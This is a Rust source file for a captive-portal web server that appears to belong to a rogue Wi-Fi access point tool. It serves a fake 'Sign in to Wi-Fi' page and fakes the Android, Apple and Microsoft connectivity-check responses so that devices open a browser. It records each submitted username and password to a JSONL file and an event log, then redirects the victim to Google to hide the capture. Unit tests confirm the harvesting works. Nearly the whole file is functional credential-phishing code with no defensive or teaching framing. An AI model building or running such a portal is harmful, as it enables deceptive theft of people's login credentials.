//! Captive portal web server.
//!
//! Serves the fake login page plus the platform connectivity-check endpoints
//! that trick clients into opening a browser. Credential submissions land in
//! a JSONL file, the event log, and a capture signal the workflow blocks on.
//! `POST /shutdown` is the documented shutdown path and only accepts requests
//! from loopback or the portal's own bound address.

use crate::state::{unix_now, AppState};
use anyhow::{Context, Result};
use axum::{
    extract::{ConnectInfo, Path as UrlPath, State},
    http::{header, StatusCode},
    response::{Html, IntoResponse, Response},
    routing::{get, post},
    Form, Router,
};
use derive_builder::Builder;
use log::{debug, info, warn};
use serde::{Deserialize, Serialize};
use std::{
    collections::HashMap,
    fs,
    net::{IpAddr, SocketAddr},
    path::PathBuf,
    sync::{
        atomic::{AtomicBool, Ordering},
        Arc, Mutex,
    },
    time::Duration,
};
use tempfile::TempDir;
use tokio::{net::TcpListener, sync::Notify, task::JoinHandle, time};

/// Where successful logins are bounced to.
const BENIGN_UPSTREAM: &str = "http://www.google.com/";
/// How long `stop` waits for the serve task after the shutdown POST.
const STOP_JOIN_TIMEOUT: Duration = Duration::from_secs(5);

const DEFAULT_LOGIN_PAGE: &str = r#"<!DOCTYPE html>
<html>
<head><title>Sign in to Wi-Fi</title></head>
<body>
  <h2>Network sign-in required</h2>
  <form method="POST" action="/login">
    <label>Username <input name="username" type="text"></label>
    <label>Password <input name="password" type="password"></label>
    <button type="submit">Connect</button>
  </form>
</body>
</html>
"#;
const HOTSPOT_DETECT_BODY: &str =
    "<HTML><HEAD><TITLE>Success</TITLE></HEAD><BODY>Success</BODY></HTML>";
const NCSI_BODY: &str = "Microsoft NCSI";
const CONNECTTEST_BODY: &str = "Microsoft Connect Test";

#[derive(Clone, Debug, Deserialize, Serialize)]
/// One captured credential pair, also the JSONL line shape.
pub struct Credential {
    pub username: String,
    pub password: String,
    pub timestamp: f64,
}

#[derive(Clone)]
struct PortalShared {
    web_root: Arc<PathBuf>,
    credentials_path: Arc<PathBuf>,
    listen_ip: IpAddr,
    app_state: Arc<AppState>,
    captured: Arc<Notify>,
    captured_flag: Arc<AtomicBool>,
    last_credential: Arc<Mutex<Option<Credential>>>,
    shutdown: Arc<Notify>,
}

#[derive(Builder, Debug)]
#[builder(pattern = "owned", setter(into))]
/// Lifecycle manager of the captive portal.
pub struct WebPortal {
    #[builder(default = "\"templates/portal\".into()")]
    /// Directory of login page templates copied into the scratch web root.
    template_dir: PathBuf,

    #[builder(default = "std::env::temp_dir().join(\"credentials.jsonl\")")]
    /// Destination of captured credentials, one JSON object per line.
    credentials_path: PathBuf,

    #[builder(setter(skip))]
    scratch: Option<TempDir>,

    #[builder(setter(skip))]
    handle: Option<JoinHandle<()>>,

    #[builder(setter(skip))]
    bound: Option<SocketAddr>,

    #[builder(setter(skip))]
    captured: Arc<Notify>,

    #[builder(setter(skip))]
    captured_flag: Arc<AtomicBool>,

    #[builder(setter(skip))]
    last_credential: Arc<Mutex<Option<Credential>>>,

    #[builder(setter(skip))]
    shutdown: Arc<Notify>,
}

impl Default for WebPortal {
    fn default() -> Self {
        Self {
            template_dir: "templates/portal".into(),
            credentials_path: std::env::temp_dir().join("credentials.jsonl"),
            scratch: None,
            handle: None,
            bound: None,
            captured: Arc::new(Notify::new()),
            captured_flag: Arc::new(AtomicBool::new(false)),
            last_credential: Arc::new(Mutex::new(None)),
            shutdown: Arc::new(Notify::new()),
        }
    }
}

impl WebPortal {
    /// Start serving on `listen_ip:port`. Returns the bound address (useful
    /// with port 0 in tests).
    pub async fn start(
        &mut self,
        app_state: Arc<AppState>,
        listen_ip: IpAddr,
        port: u16,
    ) -> Result<SocketAddr> {
        let scratch = self.prepare_web_root().context("prepare web root")?;
        let web_root = scratch.path().to_path_buf();

        let listener = TcpListener::bind(SocketAddr::new(listen_ip, port))
            .await
            .with_context(|| format!("bind portal to {}:{}", listen_ip, port))?;
        let bound = listener.local_addr().context("resolve bound address")?;

        let shared = PortalShared {
            web_root: Arc::new(web_root),
            credentials_path: Arc::new(self.credentials_path.clone()),
            listen_ip,
            app_state,
            captured: Arc::clone(&self.captured),
            captured_flag: Arc::clone(&self.captured_flag),
            last_credential: Arc::clone(&self.last_credential),
            shutdown: Arc::clone(&self.shutdown),
        };

        let app = Router::new()
            .route("/", get(index))
            .route("/login", post(login))
            .route("/generate_204", get(no_content))
            .route("/redirect", get(no_content))
            .route("/hotspot-detect.html", get(hotspot_detect))
            .route("/ncsi.txt", get(ncsi))
            .route("/connecttest.txt", get(connecttest))
            .route("/shutdown", post(shutdown))
            .route("/*path", get(static_file))
            .with_state(shared);

        let shutdown_signal = Arc::clone(&self.shutdown);
        let handle = tokio::spawn(async move {
            let serve = axum::serve(
                listener,
                app.into_make_service_with_connect_info::<SocketAddr>(),
            )
            .with_graceful_shutdown(async move {
                shutdown_signal.notified().await;
            });
            if let Err(e) = serve.await {
                warn!("Portal server failed: {}", e);
            }
        });

        self.scratch = Some(scratch);
        self.handle = Some(handle);
        self.bound = Some(bound);
        info!("Captive portal listening on {}", bound);
        Ok(bound)
    }

    /// Copy the template directory into a per-run scratch root, backfilling
    /// the well-known pages when the templates do not provide them.
    fn prepare_web_root(&self) -> Result<TempDir> {
        let scratch = TempDir::new().context("create web root")?;
        if self.template_dir.is_dir() {
            for entry in fs::read_dir(&self.template_dir).context("read template dir")? {
                let entry = entry.context("read template entry")?;
                if entry.path().is_file() {
                    fs::copy(entry.path(), scratch.path().join(entry.file_name()))
                        .with_context(|| format!("copy {}", entry.path().display()))?;
                }
            }
        }
        for (name, body) in [
            ("index.html", DEFAULT_LOGIN_PAGE),
            ("hotspot-detect.html", HOTSPOT_DETECT_BODY),
            ("ncsi.txt", NCSI_BODY),
            ("connecttest.txt", CONNECTTEST_BODY),
        ] {
            let path = scratch.path().join(name);
            if !path.exists() {
                fs::write(&path, body).with_context(|| format!("write default {}", name))?;
            }
        }
        Ok(scratch)
    }

    /// Whether a credential pair has been captured.
    pub fn has_captured(&self) -> bool {
        self.captured_flag.load(Ordering::SeqCst)
    }

    /// The most recent captured credential pair.
    pub fn last_credential(&self) -> Option<Credential> {
        match self.last_credential.lock() {
            Ok(guard) => guard.clone(),
            Err(poisoned) => poisoned.into_inner().clone(),
        }
    }

    /// Block until a credential arrives or `timeout` elapses. Returns whether
    /// a capture happened.
    pub async fn wait_for_capture(&self, timeout: Duration) -> bool {
        if self.has_captured() {
            return true;
        }
        let _ = time::timeout(timeout, self.captured.notified()).await;
        self.has_captured()
    }

    /// The bound listen address while running.
    pub fn bound_addr(&self) -> Option<SocketAddr> {
        self.bound
    }

    /// Stop the portal: issue the documented local `POST /shutdown`, fall
    /// back to the in-process handle, join the serve task and drop the
    /// scratch root.
    pub async fn stop(&mut self) {
        if let Some(bound) = self.bound.take() {
            let url = format!("http://{}/shutdown", bound);
            let posted = reqwest::Client::new()
                .post(&url)
                .timeout(Duration::from_secs(2))
                .send()
                .await;
            match posted {
                Ok(resp) => debug!("Shutdown POST returned {}", resp.status()),
                Err(e) => {
                    debug!("Shutdown POST failed ({}), using the local handle", e);
                    self.shutdown.notify_one();
                }
            }
        } else {
            self.shutdown.notify_one();
        }

        if let Some(handle) = self.handle.take() {
            if time::timeout(STOP_JOIN_TIMEOUT, handle).await.is_err() {
                warn!("Portal task did not stop in time");
            }
        }
        self.scratch.take();
        info!("Captive portal stopped");
    }
}

impl Drop for WebPortal {
    fn drop(&mut self) {
        self.shutdown.notify_one();
        if let Some(handle) = self.handle.take() {
            handle.abort();
        }
    }
}

async fn index(State(shared): State<PortalShared>) -> Response {
    debug!("Serving login page");
    serve_from_root(&shared, "index.html").await
}

async fn login(
    State(shared): State<PortalShared>,
    Form(fields): Form<HashMap<String, String>>,
) -> Response {
    let username = fields
        .get("username")
        .or_else(|| fields.get("user"))
        .cloned()
        .unwrap_or_default();
    let password = fields
        .get("password")
        .or_else(|| fields.get("pass"))
        .cloned()
        .unwrap_or_default();

    if username.is_empty() || password.is_empty() {
        warn!("Login attempt with missing username or password");
        return (StatusCode::BAD_REQUEST, "Username or password not provided.").into_response();
    }

    info!("Credentials captured");
    debug!("Captured credentials for user '{}'", username);
    let credential = Credential {
        username: username.clone(),
        password,
        timestamp: unix_now(),
    };

    match serde_json::to_string(&credential) {
        Ok(line) => {
            if let Err(e) = append_line(&shared.credentials_path, &line) {
                warn!("Failed to write credentials file: {:#}", e);
            }
        }
        Err(e) => warn!("Failed to serialize credential: {}", e),
    }
    shared.app_state.record_credential(
        &username,
        serde_json::to_value(&credential).unwrap_or(serde_json::Value::Null),
    );
    {
        let mut last = match shared.last_credential.lock() {
            Ok(guard) => guard,
            Err(poisoned) => poisoned.into_inner(),
        };
        *last = Some(credential);
    }
    // Duplicate submissions are harmless: flag and permit are idempotent.
    shared.captured_flag.store(true, Ordering::SeqCst);
    shared.captured.notify_one();

    (
        StatusCode::FOUND,
        [(header::LOCATION, BENIGN_UPSTREAM)],
        "",
    )
        .into_response()
}

async fn no_content() -> StatusCode {
    debug!("Spoofing connectivity check");
    StatusCode::NO_CONTENT
}

async fn hotspot_detect(State(shared): State<PortalShared>) -> Response {
    serve_from_root(&shared, "hotspot-detect.html").await
}

async fn ncsi(State(shared): State<PortalShared>) -> Response {
    serve_from_root(&shared, "ncsi.txt").await
}

async fn connecttest(State(shared): State<PortalShared>) -> Response {
    serve_from_root(&shared, "connecttest.txt").await
}

async fn shutdown(
    State(shared): State<PortalShared>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
) -> Response {
    if peer.ip().is_loopback() || peer.ip() == shared.listen_ip {
        info!("Shutdown requested from {}", peer);
        shared.shutdown.notify_one();
        (StatusCode::OK, "Server shutting down").into_response()
    } else {
        warn!("Rejected shutdown request from {}", peer);
        StatusCode::FORBIDDEN.into_response()
    }
}

async fn static_file(
    State(shared): State<PortalShared>,
    UrlPath(path): UrlPath<String>,
) -> Response {
    // No parent traversal out of the scratch root.
    if path.contains("..") {
        return StatusCode::NOT_FOUND.into_response();
    }
    debug!("Serving static file {}", path);
    serve_from_root(&shared, &path).await
}

async fn serve_from_root(shared: &PortalShared, name: &str) -> Response {
    let path = shared.web_root.join(name);
    match tokio::fs::read(&path).await {
        Ok(body) if name.ends_with(".html") || !name.contains('.') => {
            Html(body).into_response()
        }
        Ok(body) => body.into_response(),
        Err(_) => StatusCode::NOT_FOUND.into_response(),
    }
}

fn append_line(path: &PathBuf, line: &str) -> Result<()> {
    use std::io::Write;
    let mut file = fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)
        .with_context(|| format!("open {}", path.display()))?;
    writeln!(file, "{}", line).context("append credential line")?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use reqwest::header;
    use tempfile::TempDir;

    async fn started_portal() -> Result<(WebPortal, SocketAddr, TempDir)> {
        let dir = TempDir::new()?;
        let creds = dir.path().join("creds.jsonl");
        let mut portal = WebPortalBuilder::default()
            .template_dir(dir.path().join("missing-templates"))
            .credentials_path(creds)
            .build()?;
        let addr = portal
            .start(
                Arc::new(AppState::default()),
                "127.0.0.1".parse()?,
                0,
            )
            .await?;
        Ok((portal, addr, dir))
    }

    fn client() -> reqwest::Client {
        reqwest::Client::builder()
            .redirect(reqwest::redirect::Policy::none())
            .build()
            .expect("build client")
    }

    #[tokio::test]
    async fn connectivity_checks_are_spoofed() -> Result<()> {
        let (mut portal, addr, _dir) = started_portal().await?;
        let client = client();

        let resp = client
            .get(format!("http://{}/generate_204", addr))
            .send()
            .await?;
        assert_eq!(resp.status(), 204);

        let resp = client.get(format!("http://{}/ncsi.txt", addr)).send().await?;
        assert_eq!(resp.text().await?, NCSI_BODY);

        let resp = client
            .get(format!("http://{}/hotspot-detect.html", addr))
            .send()
            .await?;
        assert!(resp.text().await?.contains("Success"));

        portal.stop().await;
        Ok(())
    }

    #[tokio::test]
    async fn login_captures_credentials() -> Result<()> {
        let (mut portal, addr, dir) = started_portal().await?;
        let client = client();

        let resp = client
            .post(format!("http://{}/login", addr))
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body("username=alice&password=hunter2")
            .send()
            .await?;
        assert_eq!(resp.status(), 302);
        assert_eq!(
            resp.headers().get(header::LOCATION).and_then(|v| v.to_str().ok()),
            Some(BENIGN_UPSTREAM)
        );

        assert!(portal.wait_for_capture(Duration::from_secs(2)).await);
        let credential = portal.last_credential().expect("credential recorded");
        assert_eq!(credential.username, "alice");
        assert_eq!(credential.password, "hunter2");

        let contents = fs::read_to_string(dir.path().join("creds.jsonl"))?;
        let lines: Vec<&str> = contents.lines().collect();
        assert_eq!(lines.len(), 1);
        let parsed: serde_json::Value = serde_json::from_str(lines[0])?;
        assert_eq!(parsed["username"], "alice");
        assert_eq!(parsed["password"], "hunter2");
        assert!(parsed["timestamp"].is_number());

        portal.stop().await;
        Ok(())
    }

    #[tokio::test]
    async fn login_accepts_user_pass_aliases() -> Result<()> {
        let (mut portal, addr, _dir) = started_portal().await?;
        let resp = client()
            .post(format!("http://{}/login", addr))
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body("user=bob&pass=secret")
            .send()
            .await?;
        assert_eq!(resp.status(), 302);
        assert_eq!(portal.last_credential().expect("captured").username, "bob");
        portal.stop().await;
        Ok(())
    }

    #[tokio::test]
    async fn login_without_password_is_rejected() -> Result<()> {
        let (mut portal, addr, dir) = started_portal().await?;
        let resp = client()
            .post(format!("http://{}/login", addr))
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body("username=alice")
            .send()
            .await?;
        assert_eq!(resp.status(), 400);
        assert!(!portal.has_captured());
        assert!(!dir.path().join("creds.jsonl").exists());
        portal.stop().await;
        Ok(())
    }

    #[tokio::test]
    async fn shutdown_endpoint_stops_the_server() -> Result<()> {
        let (mut portal, addr, _dir) = started_portal().await?;
        let resp = client()
            .post(format!("http://{}/shutdown", addr))
            .send()
            .await?;
        assert_eq!(resp.status(), 200);

        // The serve task winds down; a follow-up request fails.
        time::sleep(Duration::from_millis(300)).await;
        let followup = client()
            .get(format!("http://{}/generate_204", addr))
            .timeout(Duration::from_secs(1))
            .send()
            .await;
        assert!(followup.is_err());
        portal.stop().await;
        Ok(())
    }

    #[tokio::test]
    async fn stop_joins_and_removes_scratch() -> Result<()> {
        let (mut portal, _addr, _dir) = started_portal().await?;
        let scratch_path = portal.scratch.as_ref().expect("scratch").path().to_path_buf();
        assert!(scratch_path.join("index.html").exists());

        portal.stop().await;
        assert!(!scratch_path.exists());
        Ok(())
    }

    #[tokio::test]
    async fn wait_for_capture_times_out() -> Result<()> {
        let (mut portal, _addr, _dir) = started_portal().await?;
        assert!(!portal.wait_for_capture(Duration::from_millis(200)).await);
        portal.stop().await;
        Ok(())
    }

    #[tokio::test]
    async fn templates_are_copied_into_scratch() -> Result<()> {
        let templates = TempDir::new()?;
        fs::write(templates.path().join("index.html"), "<html>custom</html>")?;

        let mut portal = WebPortalBuilder::default()
            .template_dir(templates.path())
            .credentials_path(templates.path().join("creds.jsonl"))
            .build()?;
        let addr = portal
            .start(Arc::new(AppState::default()), "127.0.0.1".parse()?, 0)
            .await?;

        let body = client()
            .get(format!("http://{}/", addr))
            .send()
            .await?
            .text()
            .await?;
        assert_eq!(body, "<html>custom</html>");
        portal.stop().await;
        Ok(())
    }
}
